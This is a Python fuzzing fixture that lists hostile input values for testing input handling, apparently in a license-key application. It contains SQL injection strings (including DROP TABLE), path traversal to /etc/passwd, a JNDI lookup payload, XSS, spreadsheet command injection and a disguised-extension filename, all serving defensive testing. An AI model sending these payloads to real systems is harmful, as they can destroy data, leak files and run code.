"""Values that no caller means well with; S29's corpus, for the tests that go through it and for the fuzzer."""

from itertools import chain

TEXT_CLASSES: list[list[object]] = [  # a form decodes them in a way of its own
    ["' OR 1=1 --", '"; DROP TABLE licenses_licensekey; --', "%' AND SLEEP(5) AND '%'='"],
    ["a\x00b", "\x00"],
    ["\x1b[2J", "line\nbreak"],
    ["\ud800", "\udfff tail"],
]
CLASSES: list[list[object]] = [
    *TEXT_CLASSES,
    ["\u202egnp.exe", "\u200f\u200e", "\ufeff", "\ufffe"],
    ["😀" * 200],
    ["A" * 100_000],
    ["../../etc/passwd", "{{7*7}}", "${jndi:ldap://x}", "<script>alert(1)</script>", "=cmd|' /C calc'!A0"],
    [10**30],
    [-1],
    [0, -0.0],
    [1e308],
    [True, False],
    [None],
    [[], ["a"], [[[[[]]]]]],
    [{}, {"a": {"b": {}}}, {"$gt": ""}],
]
CORPUS = list(chain.from_iterable(CLASSES))


def one_of_each(classes: list[list[object]], turn: int) -> list[object]:
    """A value of every class, at each turn the next of those that are alike: over many turns it is the whole corpus."""
    return [alike[turn % len(alike)] for alike in classes]
